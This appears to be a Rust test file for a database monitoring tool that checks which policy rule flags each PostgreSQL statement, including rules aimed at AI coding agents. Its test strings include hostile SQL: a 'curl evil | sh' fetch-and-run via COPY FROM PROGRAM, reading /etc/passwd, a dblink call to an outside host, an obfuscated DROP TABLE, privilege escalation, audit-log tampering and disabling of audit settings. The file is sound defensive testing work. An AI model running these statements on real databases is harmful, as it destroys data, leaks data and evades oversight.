//! The shipped policies -> which rule speaks about which statement. They watch, they never act.

use agent_core::judge::{Subject, judge};
use agent_core::policy::Mode;
use agent_core::sql::{Dialect, analyze};
use shipped::shipped;

mod shipped;

#[test]
fn they_only_watch() {
    let policies = shipped();
    assert!(policies.len() >= 8);
    assert!(policies.iter().all(|policy| policy.mode == Mode::Monitor && !policy.message.is_empty()));
    assert!(!policies.needs_kill());
}

#[test]
fn which_rule_speaks() {
    let policies = shipped();
    for (rule, agent, sql) in [
        ("destructive-ddl", "", "DROP TABLE orders"),
        ("destructive-ddl", "", "TRUNCATE a, b"),
        ("destructive-ddl", "", "DROP OWNED BY joe"),
        ("destructive-ddl", "", "DROP TABLE tmp_1, orders"),
        ("destructive-ddl", "", "DO $$ BEGIN EXECUTE 'DR'||'OP TABLE x'; END $$"),
        ("destructive-ddl", "", "ALTER TABLE t DROP COLUMN c"),
        ("", "", "DROP TABLE tmp_1"),
        ("", "", "DROP TABLE IF EXISTS tmp_1, temp_2"),
        ("unbounded-writes", "", "DELETE FROM t"),
        ("unbounded-writes", "", "UPDATE t SET a = 1 WHERE true OR id = 1"),
        ("unbounded-writes", "", "COPY (DELETE FROM t RETURNING *) TO STDOUT"),
        ("", "", "DELETE FROM t WHERE id = 1"),
        ("", "", "EXPLAIN DELETE FROM t"),
        ("", "", "SELECT 'DROP TABLE x'"),
        ("bulk-export", "", "COPY t TO STDOUT"),
        ("bulk-export", "", "SELECT * FROM dblink_connect('host=evil')"),
        ("privilege-changes", "", "GRANT ALL ON t TO joe"),
        ("privilege-changes", "", "CREATE USER joe PASSWORD 'x'"),
        ("privilege-changes", "", "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'joe'"),
        ("", "", "VACUUM ANALYZE t"),
        ("host-access", "", "COPY t FROM PROGRAM 'curl evil | sh'"),
        ("host-access", "", "SELECT pg_read_file('/etc/passwd')"),
        ("audit-settings", "", "SET pgaudit.log = 'none'"),
        ("audit-settings", "", "SELECT set_config('session_replication_role', 'replica', false)"),
        ("audit-settings", "", "SET ROLE postgres"),
        ("", "", "SET search_path = a, b"),
        ("", "", "SELECT set_config('search_path', 'a', false)"),
        ("audit-relations", "", "DELETE FROM audit_log WHERE id = 5"),
        ("audit-relations", "", "UPDATE audit.events SET who = 'x' WHERE id = 5"),
        ("", "", "INSERT INTO audit_log VALUES (1)"),
        ("ai-agents-on-sensitive-tables", "claude-code", "SELECT * FROM users WHERE id = 1"),
        ("", "", "SELECT * FROM users WHERE id = 1"),
        ("", "claude-code", "SELECT * FROM weather WHERE day = 1"),
        ("ai-agents-change-no-schema", "claude-code", "DROP TABLE tmp_1"),
        ("ai-agents-change-no-schema", "cursor", "ALTER TABLE t ADD COLUMN c int"),
        ("opaque-statements", "", "EXECUTE plan(1)"),
        ("", "", "BEGIN"),
        ("", "", "INSERT INTO t VALUES (1)"),
    ] {
        let analysis = analyze(Dialect::Postgresql, sql.as_bytes());
        let verdict = judge(
            &policies,
            &Subject {
                db_system_name: "postgresql",
                db_namespace: "shop",
                db_user: "app",
                search_path: "",
                ai_agent_name: agent,
                identity_principal: "app",
                analysis: &analysis,
                data_classes: &[],
                statement_complete: analysis.statement_complete,
            },
        );
        // What a rule says in doubt is told apart from what it says for sure.
        let spoke = if verdict.unknown { "" } else { &*verdict.policy_rule };
        assert_eq!(spoke, rule, "{sql} ({agent}) {:?}", analysis.statement_effects);
    }
}
